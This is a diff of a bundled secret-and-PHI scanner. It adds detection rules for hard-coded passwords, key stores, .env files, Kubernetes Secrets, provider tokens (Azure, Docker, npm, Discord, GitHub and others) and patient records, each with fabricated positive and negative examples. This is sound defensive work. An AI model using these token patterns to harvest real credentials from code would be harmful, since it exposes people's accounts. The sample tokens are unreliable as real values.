+        'authtoken',
+        'access_token',
+        'accesstoken',
+        'private_key',
+        'privatekey',
+        'credential',
+    ],
+    pattern: PATTERN,
+    validate: literalIsCredential,
+    examples: {
+        positive: [
+            'if (password == "pass12") {',
+            'if db_pass !== "s3cr3t!" { return }',
+            'const config = { apikey: "dev-k3y" };',
+            '<add key="DbPassword" value="Pa55word!" />',
+            'if user.password.equals("P4ss{w}ord") {',
+            'if (password == "letmein")',
+            '<entry key="password">S3cr3tPw!</entry>',
+            "db_pass = 'p${a]ss{{w0rd'",
+        ],
+        negative: [
+            'if (password == "") {',
+            'password: "Enter your password"',
+            'if (password === confirmPassword) {',
+            'const password = "${DB_PASSWORD}";',
+            'const password = `pre-${suffix}`;',
+            'password_hint = "first pet"',
+            "api_key = 'xxxxxxxx'",
+            'password = "password"',
+            'placeholder: "Password"',
+        ],
+    },
+};
+const hardcodedCredentialComparison = {
+    ...hardcodedCredential,
+    id: 'hardcoded-credential-comparison',
+    description: 'Hard-coded password or key a credential is compared with, literal first (CWE-798)',
+    pattern: REVERSED,
+    examples: { positive: ['if ("letmein1" === password) login();'], negative: ['if ("" === password) return;', 'if ("text" === passwordInput.type) {'] },
+};
+
+;// CONCATENATED MODULE: ./packages/core/src/scan/rules/files.ts
+/**
+ * Files whose presence is the leak: key stores (PKCS#12, Java KeyStore, JCEKS) hold private keys, and a
+ * committed `.env` holds a deployment's settings. Found by name, and key stores also by their magic
+ * bytes; the content is never decoded.
+ */
+const KEY_STORE_NAME = /\.(p12|pfx|jks|keystore|jceks|bks)$/i;
+/** JKS 0xFEEDFEED, JCEKS 0xCECECECE, PKCS#12: a DER SEQUENCE holding version INTEGER 3 (RFC 7292 PFX). */
+function keyStoreMagic(head) {
+    if (!head || head.length < 4)
+        return false;
+    const [a, b, c, d] = head;
+    if ((a === 0xfe && b === 0xed && c === 0xfe && d === 0xed) || (a === 0xce && b === 0xce && c === 0xce && d === 0xce))
+        return true;
+    if (a !== 0x30)
+        return false;
+    // Length in short form (< 0x80), indefinite (0x80) or long form with 1–2 length bytes.
+    const at = b < 0x80 || b === 0x80 ? 2 : b === 0x81 ? 3 : b === 0x82 ? 4 : -1;
+    return at > 0 && head[at] === 0x02 && head[at + 1] === 0x01 && head[at + 2] === 0x03;
+}
+const whole = (file, detail) => [{ line: file.lines[0]?.line ?? 1, start: 0, end: 0, secret: file.path, detail }];
+const keyStoreFile = {
+    id: 'private-key-store-file',
+    category: 'credential',
+    severity: 'critical',
+    confidence: 'high',
+    description: 'Private-key container committed (PKCS#12 .p12/.pfx, Java KeyStore .jks/.keystore)',
+    claimsPath: (path) => KEY_STORE_NAME.test(path),
+    match: (file) => {
+        if (KEY_STORE_NAME.test(file.path))
+            return whole(file, 'by its name');
+        return file.lines.length === 0 && keyStoreMagic(file.head) ? whole(file, 'by its first bytes') : [];
+    },
+    examples: {
+        positive: [{ path: 'certs/server.p12' }, { path: 'app/release.keystore' }, { path: 'signing/key.bin.orig', head: [0xfe, 0xed, 0xfe, 0xed, 0, 0, 0, 2] }],
+        negative: [
+            { path: 'docs/p12-format.md', text: 'How to make a .p12 file' },
+            { path: 'image.data', head: [0x89, 0x50, 0x4e, 0x47] },
+        ],
+    },
+};
+// .env, .env.local, .env.production; not the templates that document the variables.
+const DOTENV = /(?:^|\/)\.env(?:\.[\w.-]+)?$/i;
+const DOTENV_TEMPLATE = /\.(example|sample|template|tmpl|tpl|dist|defaults?|schema|ci|test|spec|docs?)(\.[\w-]+)?$|\.env\.(local\.)?(example|sample)/i;
+const dotenvFile = {
+    id: 'dotenv-file',
+    category: 'credential',
+    severity: 'medium',
+    confidence: 'high',
+    description: 'Committed .env file (environment settings, usually secrets, belong outside the repository)',
+    match: (file) => DOTENV.test(file.path) && !DOTENV_TEMPLATE.test(file.path) && file.lines.some((l) => /^\s*(?:export\s+)?[A-Za-z_]\w*\s*=/.test(l.text))
+        ? whole(file, 'by its name')
+        : [],
+    examples: {
+        positive: [
+            { path: '.env', text: 'DATABASE_URL=postgres://localhost/app' },
+            { path: 'api/.env.production', text: 'export STRIPE_KEY=abc' },
+        ],
+        negative: [
+            { path: '.env.example', text: 'DATABASE_URL=' },
+            { path: 'src/env.ts', text: 'export const env = {}' },
+            { path: '.envrc', text: 'use nix' },
+        ],
+    },
+};
+const SECRET_KIND = /^\s*["']?kind["']?\s*:\s*["']?secret["']?\s*$/i;
+const DATA_SECTION = /^(?<indent>\s*)["']?(?:data|stringData)["']?\s*:\s*$/;
+const DATA_ENTRY = /^(?<indent>\s*)["']?[\w.-]+["']?\s*:\s*(?<value>\S.*?)\s*$/;
+/** The first value under `data:` / `stringData:` of each YAML document whose `kind` is Secret. */
+function kubernetesSecretValues(file) {
+    const out = [];
+    let document = [];
+    const finish = () => {
+        if (!document.some((l) => SECRET_KIND.test(l.text)))
+            return;
+        for (let i = 0; i < document.length; i++) {
+            const section = DATA_SECTION.exec(document[i].text);
+            if (!section)
+                continue;
+            const depth = section.groups?.indent?.length ?? 0;
+            for (let k = i + 1; k < document.length; k++) {
+                const { line, text } = document[k];
+                if (!text.trim())
+                    continue;
+                const entry = DATA_ENTRY.exec(text);
+                if (!entry || (entry.groups?.indent?.length ?? 0) <= depth)
+                    break;
+                let value = entry.groups?.value ?? '';
+                let at = { line, text };
+                // A block scalar (| or >): the value is on the next line.
+                if (/^[|>][-+]?$/.test(value)) {
+                    const next = document[k + 1];
+                    if (!next)
+                        break;
+                    at = next;
+                    value = next.text.trim();
+                }
+                value = value.replace(/^["']|["']$/g, '');
+                // Under ten characters (six bytes of base64) is a flag or a name, not a credential.
+                if (value.length < 10 || /^(\$\{|<|\{\{)|^(x+|\*+)$/i.test(value))
+                    continue;
+                const start = at.text.indexOf(value);
+                out.push({ line: at.line, start, end: start + value.length, secret: value, detail: 'a value under data/stringData' });
+                return;
+            }
+        }
+    };
+    for (const l of file.lines) {
+        if (/^---/.test(l.text)) {
+            finish();
+            document = [];
+        }
+        else
+            document.push(l);
+    }
+    finish();
+    return out;
+}
+const kubernetesSecret = {
+    id: 'kubernetes-secret-manifest',
+    category: 'credential',
+    severity: 'high',
+    confidence: 'medium',
+    description: 'Kubernetes Secret manifest with values (base64 in data is encoding, not encryption)',
+    keywords: ['kind: secret', "kind: 'secret", 'kind: "secret'],
+    match: kubernetesSecretValues,
+    examples: {
+        positive: [
+            { path: 'k8s/db.yaml', text: 'apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\ntype: Opaque\ndata:\n  password: UzNjcjN0UGFzc3dvcmQ=' },
+            { path: 'k8s/cfg.yaml', text: 'apiVersion: v1\ndata:\n  .dockercfg: |\n    eyJhdXRocyI6e319\nkind: Secret' },
+        ],
+        negative: [
+            { path: 'k8s/empty.yaml', text: 'apiVersion: v1\nkind: Secret\nmetadata:\n  name: registry-auth\ntype: Opaque' },
+            { path: 'k8s/mixed.yaml', text: 'kind: Secret\ntarget:\n  name: s\n---\nkind: ConfigMap\ndata:\n  mode: production' },
+            { path: 'k8s/tpl.yaml', text: 'kind: Secret\nstringData:\n  password: ${DB_PASSWORD}' },
+        ],
+    },
+};
 
 ;// CONCATENATED MODULE: ./packages/core/src/scan/rules/phi.ts
 
@@ -21970,12 +29056,13 @@ const PHI_RULES = [
         id: 'phi-hl7-segment',
         severity: 'high',
         confidence: 'high',
-        description: 'HL7 v2 patient segment (PID, NK1, PV1, IN1, GT1)',
-        keywords: ['pid|', 'nk1|', 'pv1|', 'in1|', 'gt1|'],
-        pattern: /^\s*(?:PID|NK1|PV1|IN1|GT1)\|(?<secret>[^\r\n]*\^[^\r\n]*)$/g,
+        // PID segments are read field by field by phi-structured-record (structured-phi.ts).
+        description: 'HL7 v2 segment about a patient (NK1, PV1, IN1, GT1)',
+        keywords: ['nk1|', 'pv1|', 'in1|', 'gt1|'],
+        pattern: /(?:^|\r)\s*(?:NK1|PV1|IN1|GT1)\|(?<secret>[^\r\n]*\^[^\r\n]*?)(?=\r|$)/g,
         validate: (secret) => /[A-Za-z]{2,}\^[A-Za-z]{2,}/.test(secret) || /\d{8}/.test(secret),
         allowPlaceholderLike: true,
-        examples: { positive: ['PID|1||12345^^^HOSP^MR||DOE^JOHN^A||19610412|M'], negative: ['PID|1', 'echo "PID|"'] },
+        examples: { positive: ['NK1|1|DOE^JANE^A|SPO^Spouse|123 MAIN ST^^TOWN'], negative: ['NK1|1', 'echo "NK1|"'] },
     }),
     phi({
         id: 'phi-fhir-patient',
@@ -21991,14 +29078,478 @@ const PHI_RULES = [
     }),
 ];
 
+;// CONCATENATED MODULE: ./packages/core/src/scan/rules/providers.ts
+
+/**
+ * Provider formats added after the first rule set, each from the provider's own description of its
+ * token (prefix, alphabet, length) or, where the provider publishes none, gitleaks' rule for it. Rules
+ * with a public prefix are found bare (log lines, prose); keyed ones need the provider's name nearby.
+ * Example values are fabricated.
+ */
+const PROVIDER_RULES = [
+    cred(
+    // Bitbucket Data Center / Bitbucket Server HTTP access tokens: "BBDC-" and 44 characters.
+    'bitbucket-data-center-token', 'Bitbucket Data Center HTTP access token', { keywords: ['bbdc-'], pattern: /(?<![\w-])(?<secret>BBDC-[A-Za-z0-9+/@_-]{44})(?![\w+/@-])/g, minEntropy: 3.5 }, {
+        positive: ['BITBUCKET_TOKEN=BBDC-NDk3MzI1OTQ4NzE2OkqR7tZ2vX9pL4mW8sY1nB6cF3hJ'],
+        negative: ['BBDC-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx', 'BBDC-short'],
+    }),
+    cred(
+    // Atlassian organisation (admin) API keys: "ATCTT3xFfGN0" then the key, as user tokens' "ATATT3".
+    'atlassian-admin-api-key', 'Atlassian organisation admin API key', { keywords: ['atctt3'], pattern: /(?<![\w-])(?<secret>ATCTT3[A-Za-z0-9_\-=]{150,250})(?![\w=-])/g, minEntropy: 4 }, {
+        positive: ['ATLASSIAN_ADMIN_KEY=ATCTT3xFfGN0' + 'q8Lk2mZx9VbN4tRw7YpE3sHd'.repeat(7) + '=ABCD1234'],
+        negative: ['ATCTT3xFfGN0EXAMPLE'],
+    }),
+    cred(
+    // Vault's documented token prefixes before 1.10: "s." service, "b." batch, "r." recovery tokens.
+    'vault-legacy-token', 'HashiCorp Vault token (pre-1.10 "s." / "b." format)', { keywords: ['vault'], pattern: near('vault', String.raw `[sbr]\.[A-Za-z0-9]{24}`), minEntropy: 3.5, revealPrefix: false }, { positive: ['VAULT_TOKEN=s.ZC9Ecf4M5g9o34Q6RkzGsj0z'], negative: ['vault_path = s.secret.path.to.value'] }),
+    cred(
+    // AppSync API keys: "da2-" and 26 lower-case alphanumerics.
+    'aws-appsync-api-key', 'AWS AppSync GraphQL API key', { keywords: ['da2-'], pattern: /(?<![\w-])(?<secret>da2-[a-z0-9]{26})(?![\w-])/g, minEntropy: 3.5 }, { positive: ['const apiKey = "da2-4hj7k2m9q5w8x1z3c6v0b7n4l2"'], negative: ['da2-xxxxxxxxxxxxxxxxxxxxxxxxxx', 'da2-short'] }),
+    cred(
+    // Octopus Deploy API keys: "API-" and 26 upper-case alphanumerics (not a URL path segment).
+    'octopus-deploy-api-key', 'Octopus Deploy API key', {
+        keywords: ['api-'],
+        pattern: /(?<![\w/-])(?<secret>API-[A-Z0-9]{26})(?![\w-])/g,
+        minEntropy: 3.5,
+        validate: (s) => /\d/.test(s) && /[A-Z]{2}/.test(s.slice(4)),
+    }, {
+        positive: ['octopus_api_token = "API-CMVTUJB0I932HTFZW7FIYMM648"', 'Octopus.Client -ApiKey API-ZNRMR7SL6L3ATMOIK7GKJDKLPY'],
+        negative: ['API-XXXXXXXXXXXXXXXXXXXXXXXXXX', 'https://example.notion.site/API-BD80F56CDC1441E6BF6011AB6D85'],
+    }),
+    cred('discord-webhook-url', 'Discord webhook URL', {
+        keywords: ['discord.com/api/webhooks/', 'discordapp.com/api/webhooks/'],
+        pattern: /(?<secret>discord(?:app)?\.com\/api\/webhooks\/\d{17,20}\/[\w-]{60,68})(?![\w-])/g,
+        revealPrefix: false,
+    }, {
+        positive: ['WEBHOOK=https://discord.com/api/webhooks/1234567890123456789/Zx9Lk2Qw8Er4Ty6Ui1OpAs3Df5Gh7Jk9Lz1Xc2Vb4Nm6Qw8Er0Ty2Ui4Op6As8Df0Gh2'],
+        negative: ['https://discord.com/api/webhooks/{id}/{token}'],
+    }),
+    cred(
+    // Tableau personal access token secrets: 22 base64 characters, "==:", 32 alphanumerics.
+    'tableau-personal-access-token', 'Tableau personal access token secret', { keywords: ['==:'], pattern: /(?<![\w+/])(?<secret>[A-Za-z0-9+/]{22}==:[A-Za-z0-9]{32})(?![\w+/=])/g, minEntropy: 4, revealPrefix: false }, {
+        positive: ['personalAccessTokenSecret: "kQ7rT2mZ9xLk4Wv8Yp3Nsd==:Hc5Jf1Gq6Rb8Tz2Lx7Mw4Kp9Vn3Sd0Ya"'],
+        negative: ['aaaaaaaaaaaaaaaaaaaaaa==:bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb'],
+    }),
+    cred(
+    // Azure SAS: the signature parameter of a URL or connection string that also names a version or expiry.
+    'azure-sas-token', 'Azure shared access signature (sig=)', {
+        severity: 'critical',
+        keywords: ['sig='],
+        pattern: /[?&;]sig=(?<secret>[A-Za-z0-9%+/]{40,120}(?:%3D|=){0,2})(?![\w%+/=])/g,
+        validate: (_s, c) => /[?&;](?:sv|se|sp|spr|srt|ss|st)=/.test(c.line),
+        revealPrefix: false,
+    }, {
+        positive: ['https://demo.blob.core.windows.net/c?sv=2022-11-02&ss=b&se=2026-01-01T00:00:00Z&sp=r&sig=Zx9Lk2Qw8Er4Ty6Ui1OpAs3Df5Gh7Jk9Lz1Xc2Vb4Nm%3D'],
+        negative: ['https://example.com/?sig=Zx9Lk2Qw8Er4Ty6Ui1OpAs3Df5Gh7Jk9Lz1Xc2Vb4Nm%3D'],
+    }),
+    cred(
+    // Service Bus, Event Hubs, IoT Hub, Relay: SharedAccessKey is 32 random bytes, base64.
+    'azure-shared-access-key', 'Azure shared access key (Service Bus, Event Hubs, IoT Hub)', { severity: 'critical', keywords: ['sharedaccesskey='], pattern: /SharedAccessKey=(?<secret>[A-Za-z0-9+/]{42,43}=)/gi, minEntropy: 4, revealPrefix: false }, {
+        positive: ['Endpoint=sb://demo.servicebus.windows.net/;SharedAccessKeyName=Root;SharedAccessKey=q8Lk2mZx9VbN4tRw7YpE3sHd5Gh7Jk9Lz1Xc2Vb4Nm6='],
+        negative: ['SharedAccessKey=<key>'],
+    }),
+    cred('azure-storage-key-keyed', 'Azure storage account key next to its name', {
+        severity: 'critical',
+        keywords: ['azure', 'storage_key', 'storagekey', 'account_key', 'accountkey'],
+        pattern: near('azure|storage_?key|account_?key', '[A-Za-z0-9+/]{86}=='),
+        minEntropy: 4.5,
+        revealPrefix: false,
+    }, {
+        positive: ['AZURE_STORAGE_KEY="PtYgjmUhBel31iEl2hpChYgCfrL1spNxnyVmihA/2O76UMFxFkM/R5Kjp1vRt+1fjORS/6ilI8ihN5KXSc7Tvo=="'],
+        negative: ['AZURE_STORAGE_KEY=""'],
+    }),
+    cred(
+    // ACR admin passwords: 52 characters, newer ones end in "+ACR" and six more.
+    'azure-container-registry-password', 'Azure Container Registry admin password', {
+        severity: 'critical',
+        keywords: [],
+        prefilter: ['azurecr.io'],
+        pattern: /(?<![\w+/=])(?<secret>[A-Za-z0-9+/]{42}\+ACR[A-Za-z0-9]{6}|[A-Za-z0-9+/]{52})(?![\w+/=])/g,
+        minEntropy: 4.3,
+        validate: (s) => /\d/.test(s) && /[a-z]/.test(s) && /[A-Z]/.test(s),
+        revealPrefix: false,
+    }, {
+        positive: ['docker login demo.azurecr.io -u demo -p q8Lk2mZx9VbN4tRw7YpE3sHd5Gh7Jk9Lz1Xc2Vb4Nm+ACRk2Qw8E'],
+        negative: ['docker login demo.azurecr.io -u demo -p "$ACR_PASSWORD"'],
+    }),
+    cred(
+    // Docker's config.json: "auth" is base64 of "user:password" (or "user:token").
+    'docker-config-auth', 'Docker registry credentials (auth in config.json)', {
+        severity: 'critical',
+        keywords: ['"auth"', '"identitytoken"'],
+        pattern: /"(?:auth|identitytoken)"\s*:\s*"(?<secret>[A-Za-z0-9+/_.-]{12,}={0,2})"/gi,
+        validate: (secret, c) => {
+            if (/"identitytoken"/i.test(c.line))
+                return secret.length >= 20;
+            const decoded = Buffer.from(secret, 'base64').toString('utf8');
+            return /^[\x20-\x7e]+:[\x20-\x7e]{3,}$/.test(decoded);
+        },
+        revealPrefix: false,
+    }, { positive: ['{"auths": {"ghcr.io": {"auth": "ZGVtbzpTdXAzclMzY3JldFB3IQ=="}}}'], negative: ['"auth": "bm90LWEtcGFpcg=="', '"auth": "${DOCKER_AUTH}"'] }),
+    cred(
+    // .npmrc: "//registry/:_authToken=…", "_auth=" (base64 user:pass) and "_password=" (base64).
+    'npmrc-auth', 'npm registry credentials in .npmrc', {
+        severity: 'critical',
+        keywords: ['_authtoken', '_auth=', '_password='],
+        pattern: /(?:^|[\s:'"])(?:_authToken|_auth|_password)\s*=\s*["']?(?<secret>[^\s"'$]{8,512})/gi,
+        validate: (s) => !/^\$\{|^\{\{/.test(s),
+        revealPrefix: false,
+    }, {
+        positive: ['//registry.npmjs.org/:_authToken=9f8a7b6c-5d4e-4f3a-8b2c-1d0e9f8a7b6c', '//npm.pkg.github.com/:_authToken=Zx9Lk2Qw8Er4Ty6Ui1Op'],
+        negative: ['//registry.npmjs.org/:_authToken=${NPM_TOKEN}', '_authToken=xxxxxxxxxxxx'],
+    }),
+    cred(
+    // Telegram bot tokens: the bot id, a colon, then 35 characters that start with "AA".
+    'telegram-bot-token', 'Telegram bot token', {
+        // Issued tokens' secret part starts "AA"; with "telegram" on the line any 35-character secret counts.
+        keywords: [':aa', 'telegram'],
+        pattern: /(?<![\w:])(?<secret>\d{5,16}:A[\w-]{34})(?![\w-])/g,
+        validate: (secret, c) => /:AA/.test(secret) || /telegram/i.test(c.line),
+        minEntropy: 3.5,
+        revealPrefix: false,
+    }, {
+        positive: ['bot = Bot("7364018255:AAF4kq8Lk2mZx9VbN4tRw7YpE3sHd5Gh7Jk")', 'telegram bot: 21877391:Atbm66dzmtt7_vd9oi9c-uiee1dnv_48zni'],
+        negative: ['1234567890:AAxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx', 'build 21877391:Atbm66dzmtt7_vd9oi9c-uiee1dnv_48zni'],
+    }),
+    cred(
+    // Mailchimp API keys: 32 hex digits, "-us", the data-centre number.
+    'mailchimp-api-key', 'Mailchimp API key', { keywords: ['-us0'], pattern: /(?<![\w-])(?<secret>[0-9a-f]{32}-us\d{1,2})(?![\w-])/g, minEntropy: 3 }, { positive: ['MAILCHIMP_KEY=3f9a1c7e5b2d8f4a6c0e9b7d5f3a1c8e-us14'], negative: ['00000000000000000000000000000000-us1'] }),
+    cred(
+    // JFrog Artifactory API keys start "AKCp"; reference tokens "cmVmdGtu" (base64 of "reftkn").
+    'artifactory-token', 'JFrog Artifactory API key or reference token', { keywords: ['akcp', 'cmvmdgtu'], pattern: /(?<![\w-])(?<secret>AKCp[A-Za-z0-9]{69}|cmVmdGtu[A-Za-z0-9]{56})(?![\w-])/g, minEntropy: 4 }, {
+        positive: ['ARTIFACTORY_API_KEY=AKCp' + 'q8Lk2mZx9VbN4tRw7YpE3sHd5Gh7Jk9Lz1Xc2Vb4Nm6Qw8Er0Ty2Ui4Op6As8Df0Gh2Jk'],
+        negative: ['AKCpshort'],
+    }),
+    cred('figma-token', 'Figma personal access token', {
+        keywords: ['figma'],
+        pattern: near('figma', String.raw `\d{5,7}-[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}`),
+        minEntropy: 3,
+        revealPrefix: false,
+    }, { positive: ['FIGMA_TOKEN=123456-3f9a1c7e-5b2d-4f8a-9c0e-7b5d3f1a8c6e'], negative: ['figma_file = "design-system"'] }),
+    cred('discord-bot-token', 'Discord bot token', {
+        keywords: ['discord', 'bot_token', 'bottoken'],
+        pattern: /(?<![\w.-])(?<secret>[MNO][A-Za-z0-9_-]{23,27}\.[A-Za-z0-9_-]{6}\.[A-Za-z0-9_-]{27,38})(?![\w.-])/g,
+        minEntropy: 4,
+        revealPrefix: false,
+    }, { positive: ['DISCORD_BOT_TOKEN=MTk4NjIyNDgzNDcxOTI1MjQ4.Cl2FMQ.ZnCjm1XVW7vRze4b7Cq4se7kKWs'], negative: ['discord_token = "${TOKEN}"'] }),
+    cred(
+    // Adobe (I/O, Developer Console) OAuth client secrets start "p8e-".
+    'adobe-client-secret', 'Adobe client secret', { keywords: ['p8e-'], pattern: /(?<![\w-])(?<secret>p8e-[a-zA-Z0-9]{32})(?![\w-])/g, minEntropy: 3.5 }, { positive: ['adobeClient := "p8e-93b451be8872edd8a3ced7bc68516337"'], negative: ['p8e-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'] }),
+    cred(
+    // An app access token is "app id|app secret" (Graph API docs); the app secret alone is 32 hex digits.
+    'facebook-app-access-token', 'Facebook app access token', {
+        keywords: ['facebook', 'graph.facebook.com'],
+        pattern: /(?<![\w|])(?<secret>\d{15,16}(?:\||%7C)[\w-]{27,32})(?![\w-])/g,
+        minEntropy: 3.5,
+        revealPrefix: false,
+    }, { positive: ['facebook 1308742762612587|rhoK1cbv0DOU_RTX_87O4MkX7AI'], negative: ['facebook 1308742762612587|xxxxxxxxxxxxxxxxxxxxxxxxxxx'] }),
+    cred(
+    // Tokens issued before April 2021 are 40 hexadecimal digits with no prefix: only the name says what they are.
+    'github-legacy-token', 'GitHub token in the pre-2021 format (40 hex) next to its name', {
+        severity: 'critical',
+        keywords: ['github', 'gh_token', 'gh_pat'],
+        pattern: near('github|gh_token|gh_pat', '[0-9a-f]{40}'),
+        // The same shape is a commit SHA: GITHUB_SHA, github.sha, "commit", "ref" are not tokens.
+        validate: (_s, c) => !/sha|commit|revision|\bref\b|_ref|hash|digest|checksum|run_id/i.test(c.line),
+        minEntropy: 3,
+        revealPrefix: false,
+    }, {
+        positive: ['GITHUB_TOKEN=3f9a1c7e5b2d8f4a6c0e9b7d5f3a1c8e6b4d2f0a', 'github_api_key: "3f9a1c7e5b2d8f4a6c0e9b7d5f3a1c8e6b4d2f0a"'],
+        negative: ['GITHUB_SHA=3f9a1c7e5b2d8f4a6c0e9b7d5f3a1c8e6b4d2f0a', 'github_commit: "3f9a1c7e5b2d8f4a6c0e9b7d5f3a1c8e6b4d2f0a"'],
+    }),
+];
+
+;// CONCATENATED MODULE: ./packages/core/src/scan/rules/structured-phi.ts
+
+const ID_NAMES = new Set('mrn pid patientid ptid patientnumber patientno medicalrecordnumber medicalrecordno medicalrecord mrnumber recordnumber recordno recordid chartnumber chartno chartid memberid membernumber subscriberid ssn socialsecuritynumber socialsecurityno insuranceid healthplanid beneficiaryid mbi medicaidid medicareid identifier'.split(' '));
+const DOB_NAMES = new Set('dob birthdate dateofbirth birthday birthdt dtofbirth dobdate bdate'.split(' '));
+const NAME_NAMES = new Set('name fname lname mname firstname lastname middlename first last given givenname family familyname surname fullname forename patient patientname ptname membername'.split(' '));
+/** What a column or key names, from its letters alone: `First Name`, `first_name` and `firstName` are one. */
+function fieldKind(field) {
+    // "DOB (MM/DD/YYYY)", "Name (Last, First)": the parenthesis describes the format.
+    const n = field
+        .replace(/\([^)]*\)/g, '')
+        .toLowerCase()
+        .replace(/[^a-z0-9]/g, '');
+    if (ID_NAMES.has(n))
+        return 'id';
+    if (DOB_NAMES.has(n))
+        return 'dob';
+    if (NAME_NAMES.has(n) || NAME_NAMES.has(n.replace(/^(patient|pt|member|client|subscriber)/, '')))
+        return 'name';
+    return undefined;
+}
+// Besides the layouts PHI rules share: 1961/04/12 and 12-Apr-1961, common in exports.
+const MONTH = '(?:Jan|Feb|Mar|Apr|May|Jun|Jul|Aug|Sep|Sept|Oct|Nov|Dec)[a-z]*';
+const DATE_VALUE = new RegExp(`^(?:${DATE}|\\d{4}/\\d{1,2}/\\d{1,2}|\\d{1,2}[-/ ]${MONTH}[-/ ]\\d{2,4})$`, 'i');
+const NOT_A_NAME = /^(string|text|varchar|char|null|nil|none|unknown|n\/?a|name|first|last|true|false|yes|no|test|example|sample|redacted|anonymous|masked)$/i;
+function valueFits(kind, value) {
+    if (!value || /^(x+|\*+|#+|-+|\?+)$/i.test(value.replace(/[\s^,]/g, '')))
+        return false;
+    if (kind === 'name')
+        return value.length >= 2 && /^[A-Za-z][A-Za-z'’.-]*(?:[ ,^]+[A-Za-z][A-Za-z'’.-]*){0,3}$/.test(value) && !NOT_A_NAME.test(value);
+    if (kind === 'dob') {
+        if (!DATE_VALUE.test(value))
+            return false;
+        const year = /(?:^|\D)((?:19|20)\d\d)(?:\D|$|\d{4}$)/.exec(value)?.[1] ?? /^((?:19|20)\d\d)\d{4}$/.exec(value)?.[1];
+        return year === undefined ? !/^\d{8}$/.test(value) : Number(year) >= 1900 && Number(year) <= 2035;
+    }
+    const digits = value.replace(/\D/g, '');
+    if (/^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i.test(value))
+        return true;
+    return /^[A-Za-z]{0,4}[-#:]?\d[\d-]{3,15}[A-Za-z]?$/.test(value) && digits.length >= 4 && !/^(\d)\1+$/.test(digits);
+}
+/** PHI when a name meets a birth date or record number, or those two meet. */
+function isPhi(fields) {
+    const kinds = new Set(fields.map((f) => f.kind));
+    return kinds.size >= 2;
+}
+function report(fields, what) {
+    const first = fields[0];
+    const sameLine = fields.filter((f) => f.line === first.line);
+    return {
+        line: first.line,
+        start: Math.min(...sameLine.map((f) => f.start)),
+        end: Math.max(...sameLine.map((f) => f.end)),
+        secret: fields.map((f) => f.value).join('\u0000'),
+        detail: `${what} ${fields.map((f) => f.key).join(', ')}`,
+    };
+}
+/** Columns aligned with runs of spaces (fixed-width exports, pasted tables). */
+function splitOnSpaces(line) {
+    const cells = [];
+    for (const m of line.matchAll(/\S+(?: \S+)*/g))
+        cells.push({ text: m[0], start: m.index, end: m.index + m[0].length });
+    return cells;
+}
+function splitCells(line, delimiter) {
+    if (delimiter === '  ')
+        return splitOnSpaces(line);
+    const cells = [];
+    let i = 0;
+    while (i <= line.length) {
+        let start = i;
+        let end;
+        if (line[i] === '"') {
+            const close = line.indexOf('"', i + 1);
+            end = close < 0 ? line.length : close;
+            start = i + 1;
+            i = line.indexOf(delimiter, end);
+        }
+        else {
+            i = line.indexOf(delimiter, i);
+            end = i < 0 ? line.length : i;
+        }
+        const raw = line.slice(start, end);
+        const lead = raw.length - raw.trimStart().length;
+        cells.push({ text: raw.trim(), start: start + lead, end: start + lead + raw.trim().length });
+        if (i < 0)
+            break;
+        i += delimiter.length;
+    }
+    // Markdown tables: | a | b | has an empty cell before the first bar and after the last.
+    if (delimiter === '|' && cells[0]?.text === '' && cells[cells.length - 1]?.text === '')
+        return cells.slice(1, -1);
+    return cells;
+}
+const HEADER_CELL = /^[A-Za-z_][\w .#/(),-]{0,40}$/;
+function tableRows(file) {
+    const out = [];
+    let header;
+    for (const { line, text } of file.lines) {
+        // A row keeps its header's delimiter even when a cell holds another ("Lopez, Maria" in a spaced table).
+        const delimiter = header && text.includes(header.delimiter) ? header.delimiter : ['\t', ',', '|', ';', '  '].find((d) => text.includes(d));
+        if (!delimiter)
+            continue;
+        const cells = splitCells(text, delimiter);
+        if (cells.length < 2)
+            continue;
+        if (cells.every((c) => HEADER_CELL.test(c.text))) {
+            const kinds = cells.map((c) => fieldKind(c.text));
+            if (new Set(kinds.filter(Boolean)).size >= 2) {
+                header = { delimiter, kinds, names: cells.map((c) => c.text) };
+                continue;
+            }
+        }
+        if (!header || header.delimiter !== delimiter || Math.abs(cells.length - header.kinds.length) > 1)
+            continue;
+        const fields = [];
+        cells.forEach((c, i) => {
+            const kind = header?.kinds[i];
+            if (kind && valueFits(kind, c.text))
+                fields.push({ key: header?.names[i] ?? '', kind, line, start: c.start, end: c.end, value: c.text });
+        });
+        if (isPhi(fields))
+            out.push(report(fields, 'table row with columns'));
+    }
+    return out;
+}
+// ---- key/value records (JSON, YAML, "Key: value" text, FHIR Patient) ----
+const PAIR = /(?:^|[\s{,;(|]+)["']?(?<key>[A-Za-z_][\w .-]{0,30}?)["']?\s*(?:=>|:|=)\s*\[?\s*(?<value>"[^"\r\n]{0,80}"|'[^'\r\n]{0,80}'|[^,;}\]\r\n|"']{1,80})/g;
+function keyedRecords(file) {
+    const out = [];
+    let record = [];
+    let keys = new Set();
+    let previousLine = -1;
+    let idPending = false;
+    const flush = () => {
+        if (isPhi(record))
+            out.push(report(record, 'record with fields'));
+        record = [];
+        keys = new Set();
+        idPending = false;
+    };
+    for (const { line, text } of file.lines) {
+        if (line !== previousLine + 1 || !text.trim())
+            flush();
+        previousLine = line;
+        for (const m of text.matchAll(PAIR)) {
+            const key = (m.groups?.key ?? '').trim();
+            const raw = m.groups?.value ?? '';
+            const quoted = /^["']/.test(raw);
+            const value = (quoted ? raw.slice(1, -1) : raw).trim();
+            // FHIR: "identifier": [{"system": …, "value": "12345"}] — the identifier is the nested value.
+            // "pid" in a key/value record is nearly always a process id (log lines, process managers).
+            let kind = key.toLowerCase() === 'pid' ? undefined : fieldKind(key);
+            if (!kind && idPending && key === 'value')
+                kind = 'id';
+            if (!kind)
+                continue;
+            if (kind === 'id' && key.toLowerCase() === 'identifier' && !value) {
+                idPending = true;
+                continue;
+            }
+            // Outside a table's header, a name must look like a person's: capitalised words or a capitalised surname.
+            if (!valueFits(kind, value) || (kind === 'name' && !/^[A-Z]/.test(value)))
+                continue;
+            if (keys.has(key))
+                flush();
+            keys.add(key);
